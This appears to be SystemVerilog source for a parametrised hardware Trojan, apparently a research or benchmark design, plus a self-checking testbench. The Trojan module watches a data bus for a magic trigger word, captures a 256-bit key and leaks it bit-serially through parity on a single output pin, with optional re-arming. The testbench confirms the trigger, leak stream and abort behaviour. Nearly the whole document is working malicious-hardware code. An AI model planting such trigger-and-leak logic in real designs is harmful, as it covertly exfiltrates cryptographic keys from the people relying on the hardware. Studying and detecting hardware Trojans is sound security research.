// File: rtl/trojan_pkg.sv
// Shared types, default sizes and helpers for the parametrised key-leak Trojan.
package trojan_pkg;

  localparam int unsigned DATA_W_DEF = 64;
  localparam int unsigned KEY_W_DEF  = 256;
  localparam int unsigned LEAK_W_DEF = 2;

  localparam int unsigned NB = KEY_W_DEF / DATA_W_DEF;
  localparam int unsigned NL = KEY_W_DEF / LEAK_W_DEF;

  typedef enum logic [1:0] {
    IDLE    = 2'd0,
    CAPTURE = 2'd1,
    LEAK    = 2'd2,
    DONE    = 2'd3
  } state_t;

  // Bits needed to hold the value v-1; never returns less than 1.
  function automatic int unsigned clog2(input int unsigned v);
    int unsigned r;
    r = 0;
    for (int unsigned i = 0; i < 32; i++) begin
      if ((64'd1 << i) < 64'(v)) r = i + 1;
    end
    return (r == 0) ? 1 : r;
  endfunction

endpackage

// File: rtl/trojan_leak_payload.sv
// Payload stub: folds one leak chunk to a single parity bit, gated by en.
module trojan_leak_payload #(
  parameter int unsigned LEAK_W = 2
) (
  input  logic              en,
  input  logic [LEAK_W-1:0] chunk,
  output logic              leak_c
);

  assign leak_c = en & (^chunk);

endmodule

// File: rtl/trojan_param_leak.sv
// Key-leak Trojan: trigger on a snooped word, capture KEY_W bits, leak them on one pin.
// Optional macro TROJAN_REARM_EN lets the Trojan fire again after DONE.
module trojan_param_leak
  import trojan_pkg::*;
#(
  parameter int unsigned        DATA_W    = DATA_W_DEF,
  parameter int unsigned        KEY_W     = KEY_W_DEF,
  parameter int unsigned        LEAK_W    = LEAK_W_DEF,
  parameter int unsigned        TRIG_W    = 32,
  parameter logic [TRIG_W-1:0]  TRIG_VAL  = TRIG_W'(32'h0044ab93),
  parameter int unsigned        TRIG_HITS = 1
) (
  input  logic              clk,
  input  logic              rst_all_n,
  input  logic [DATA_W-1:0] data,
  output logic              out,
  output logic              leak_busy,
  output logic              leak_done
);

  localparam int unsigned NB_L   = KEY_W / DATA_W;
  localparam int unsigned NL_L   = KEY_W / LEAK_W;
  localparam int unsigned HIT_W  = clog2(TRIG_HITS + 1);
  localparam int unsigned BEAT_W = clog2(NB_L + 1);
  localparam int unsigned BIT_W  = clog2(NL_L + 1);

  state_t             state, state_nxt;
  logic [HIT_W-1:0]   hit_cnt, hit_nxt;
  logic [BEAT_W-1:0]  beat_cnt, beat_nxt;
  logic [BIT_W-1:0]   bit_cnt, bit_nxt;
  logic [KEY_W-1:0]   key, key_nxt;
  logic               busy_nxt, done_nxt;
  logic               match_c, payload_c;

  assign match_c = (data[TRIG_W-1:0] == TRIG_VAL);

  trojan_leak_payload #(.LEAK_W(LEAK_W)) u_payload (
    .en     (state == LEAK),
    .chunk  (key[LEAK_W-1:0]),
    .leak_c (payload_c)
  );

  // Next-state, counter and key update logic.
  always_comb begin
    state_nxt = state;
    hit_nxt   = hit_cnt;
    beat_nxt  = beat_cnt;
    bit_nxt   = bit_cnt;
    key_nxt   = key;
    case (state)
      IDLE: begin
        if (match_c) begin
          if (hit_cnt == HIT_W'(TRIG_HITS - 1)) begin
            hit_nxt   = HIT_W'(TRIG_HITS);
            beat_nxt  = '0;
            state_nxt = CAPTURE;
          end else begin
            hit_nxt = hit_cnt + HIT_W'(1);
          end
        end
      end
      CAPTURE: begin
        for (int unsigned i = 0; i < NB_L; i++) begin
          if (beat_cnt == BEAT_W'(i)) key_nxt[i*DATA_W +: DATA_W] = data;
        end
        if (beat_cnt == BEAT_W'(NB_L - 1)) begin
          beat_nxt  = '0;
          bit_nxt   = '0;
          state_nxt = LEAK;
        end else begin
          beat_nxt = beat_cnt + BEAT_W'(1);
        end
      end
      LEAK: begin
        key_nxt = key >> LEAK_W;
        if (bit_cnt == BIT_W'(NL_L - 1)) begin
          bit_nxt   = '0;
          state_nxt = DONE;
        end else begin
          bit_nxt = bit_cnt + BIT_W'(1);
        end
      end
      DONE: begin
`ifdef TROJAN_REARM_EN
        hit_nxt   = '0;
        key_nxt   = '0;
        state_nxt = IDLE;
`else
        state_nxt = DONE;
`endif
      end
      default: state_nxt = IDLE;
    endcase
    busy_nxt = (state_nxt == LEAK);
    done_nxt = (state_nxt == LEAK) && (bit_nxt == BIT_W'(NL_L - 1));
  end

  // Registered outputs line up with the state they describe; out lags the payload by one cycle.
  always_ff @(posedge clk or negedge rst_all_n) begin
    if (!rst_all_n) begin
      state     <= IDLE;
      hit_cnt   <= '0;
      beat_cnt  <= '0;
      bit_cnt   <= '0;
      key       <= '0;
      out       <= 1'b0;
      leak_busy <= 1'b0;
      leak_done <= 1'b0;
    end else begin
      state     <= state_nxt;
      hit_cnt   <= hit_nxt;
      beat_cnt  <= beat_nxt;
      bit_cnt   <= bit_nxt;
      key       <= key_nxt;
      out       <= payload_c;
      leak_busy <= busy_nxt;
      leak_done <= done_nxt;
    end
  end

endmodule

// File: tb/tb_trojan_param_leak.sv
// Self-checking bench for trojan_param_leak (default instance plus a TRIG_HITS=3 instance).
module tb_trojan_param_leak;
  import trojan_pkg::*;

  localparam logic [31:0] TRIG = 32'h0044ab93;
`ifdef TROJAN_REARM_EN
  localparam bit REARM = 1'b1;
`else
  localparam bit REARM = 1'b0;
`endif

  logic        clk;
  logic        rst_n;
  logic [63:0] data0, data3;
  logic        out0, busy0, done0;
  logic        out3, busy3, done3;

  int total  = 0;
  int passed = 0;

  trojan_param_leak u0 (
    .clk(clk), .rst_all_n(rst_n), .data(data0),
    .out(out0), .leak_busy(busy0), .leak_done(done0)
  );

  trojan_param_leak #(.TRIG_HITS(3)) u3 (
    .clk(clk), .rst_all_n(rst_n), .data(data3),
    .out(out3), .leak_busy(busy3), .leak_done(done3)
  );

  initial clk = 1'b0;
  always #5 clk = ~clk;

  typedef struct {
    logic [63:0] word;
    int          exp_ones;
  } vec_t;

  vec_t tab[6];
  bit   sb_q[$];

  task automatic chk(input string name, input logic [255:0] act, input logic [255:0] exp);
    total++;
    if (act === exp) passed++;
    else $display("FAIL %s: got %0h expected %0h", name, act, exp);
  endtask

  task automatic step();
    @(posedge clk);
    #1;
  endtask

  // Random word whose low 32 bits can never equal the trigger (bit 31 forced high).
  function automatic logic [63:0] noise();
    logic [31:0] hi, lo;
    hi = $urandom;
    lo = $urandom | 32'h8000_0000;
    return {hi, lo};
  endfunction

  task automatic do_reset();
    rst_n = 1'b0;
    data0 = noise();
    data3 = noise();
    step();
    step();
    rst_n = 1'b1;
  endtask

  task automatic trigger_and_capture(input logic [255:0] k);
    data0 = {32'h0, TRIG};
    step();
    for (int b = 0; b < int'(NB); b++) begin
      data0 = k[b*64 +: 64];
      step();
    end
    data0 = noise();
  endtask

  // Full sequence; expect_leak selects whether a leak must follow the trigger.
  task automatic run_leak(input string tag, input logic [255:0] k, input bit expect_leak,
                          input int exp_ones);
    int  busy_cycles, done_cnt, done_ok, stream_errs, idle_errs, ones;
    bit  prev_busy, exp_bit;
    busy_cycles = 0; done_cnt = 0; done_ok = 0; stream_errs = 0; idle_errs = 0; ones = 0;
    sb_q.delete();
    trigger_and_capture(k);
    if (expect_leak) begin
      for (int i = 0; i < int'(NL); i++) sb_q.push_back(^k[2*i +: 2]);
      chk({tag, "_key"}, u0.key, k);
    end
    chk({tag, "_busy_start"}, busy0, expect_leak);
    prev_busy = busy0;
    if (busy0) busy_cycles = 1;
    for (int c = 0; c < 160; c++) begin
      step();
      if (prev_busy) begin
        if (sb_q.size() == 0) stream_errs++;
        else begin
          exp_bit = sb_q.pop_front();
          if (out0 !== exp_bit) stream_errs++;
          if (out0 === 1'b1) ones++;
        end
      end else if (out0 !== 1'b0) idle_errs++;
      if (busy0) busy_cycles++;
      if (done0) begin
        done_cnt++;
        if (busy0 && busy_cycles == int'(NL)) done_ok++;
      end
      prev_busy = busy0;
    end
    chk({tag, "_busy_cycles"}, busy_cycles, expect_leak ? NL : 0);
    chk({tag, "_done_pulses"}, done_cnt, expect_leak ? 1 : 0);
    if (expect_leak) begin
      chk({tag, "_done_on_last"}, done_ok, 1);
      chk({tag, "_stream"}, stream_errs, 0);
      chk({tag, "_queue_empty"}, sb_q.size(), 0);
      if (exp_ones >= 0) chk({tag, "_ones"}, ones, exp_ones);
    end
    chk({tag, "_out_idle"}, idle_errs, 0);
    chk({tag, "_key_final"}, u0.key, 256'h0);
  endtask

  initial begin
    logic [255:0] k;
    int errs;
    rst_n = 1'b0;
    data0 = '0;
    data3 = '0;
    tab[0] = '{64'h0000_0000_0000_0000, 0};
    tab[1] = '{64'hffff_ffff_ffff_ffff, 0};
    tab[2] = '{64'h5555_5555_5555_5555, 128};
    tab[3] = '{64'h1111_1111_1111_1111, 64};
    tab[4] = '{64'h3333_3333_3333_3333, 0};
    tab[5] = '{64'h6666_6666_6666_6666, 128};

    // Reset state.
    do_reset();
    chk("reset_outs", {out0, busy0, done0, out3, busy3, done3}, 6'b0);
    chk("reset_state", {u0.state, u3.state}, {IDLE, IDLE});
    chk("reset_key", u0.key, 256'h0);

    // Table of leak patterns with known parity counts.
    for (int t = 0; t < 6; t++) begin
      do_reset();
      run_leak($sformatf("tab%0d", t), {4{tab[t].word}}, 1'b1, tab[t].exp_ones);
    end

    // Distinct random beats, and a trigger word sitting in capture beat 2.
    do_reset();
    k = {noise(), noise(), noise(), noise()};
    run_leak("rand", k, 1'b1, -1);
    do_reset();
    k = {noise(), 32'hdead_beef, TRIG, noise(), noise()};
    run_leak("trig_in_beat2", k, 1'b1, -1);

    // Second trigger after the first leak: one-shot unless rearm is built in.
    k = {noise(), noise(), noise(), noise()};
    run_leak("retrigger", k, REARM, -1);

    // TRIG_HITS=3 with non-consecutive matches at cycles 0, 5 and 9.
    do_reset();
    for (int c = 0; c < 9; c++) begin
      data3 = (c == 0 || c == 5) ? {32'h1234_5678, TRIG} : noise();
      step();
    end
    chk("hits3_two_matches_state", u3.state, IDLE);
    chk("hits3_two_matches_cnt", u3.hit_cnt, 2);
    data3 = {32'h0, TRIG};
    step();
    chk("hits3_capture_at_10", u3.state, CAPTURE);
    for (int b = 0; b < 4; b++) begin
      data3 = noise();
      step();
    end
    chk("hits3_busy_after_capture", {busy3, u3.state}, {1'b1, LEAK});

    // Off-by-one trigger word never fires.
    do_reset();
    errs = 0;
    for (int c = 0; c < 1000; c++) begin
      data0 = {32'($urandom), 32'h0044ab92};
      data3 = data0;
      step();
      if ({out0, busy0, done0, out3, busy3, done3} !== 6'b0) errs++;
      if (u0.state !== IDLE || u3.state !== IDLE) errs++;
    end
    chk("near_miss_idle", errs, 0);

    // Reset at leak cycle 50 aborts at once and discards the key.
    do_reset();
    k = {4{64'h5555_5555_5555_5555}};
    trigger_and_capture(k);
    for (int c = 0; c < 50; c++) step();
    chk("abort_busy_before", busy0, 1'b1);
    rst_n = 1'b0;
    #1;
    chk("abort_outs", {out0, busy0, done0}, 3'b0);
    chk("abort_key", u0.key, 256'h0);
    chk("abort_state", u0.state, IDLE);
    step();
    rst_n = 1'b1;
    step();
    k = {noise(), noise(), noise(), noise()};
    run_leak("after_abort", k, 1'b1, -1);

    $display("%0d/%0d checks passed", passed, total);
    $finish;
  end

  // Watchdog so the run always ends.
  initial begin
    #2_000_000;
    $display("FAIL watchdog: got timeout expected finish");
    $fatal(1, "timeout");
  end

endmodule
